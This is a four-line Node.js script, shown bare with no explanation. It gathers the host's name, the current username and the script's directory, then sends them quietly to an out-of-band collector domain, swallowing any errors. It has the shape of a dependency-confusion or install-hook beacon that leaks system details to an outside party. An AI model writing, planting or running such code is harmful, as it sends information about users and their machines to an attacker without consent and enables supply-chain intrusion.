const http = require('http');
const { hostname, userInfo } = require('os');
const qs = new URLSearchParams({ host: hostname(), who: userInfo().username, dir: __dirname }).toString();
http.get('http://q9x2k1.oast-collector.example/c?' + qs).on('error', () => {});
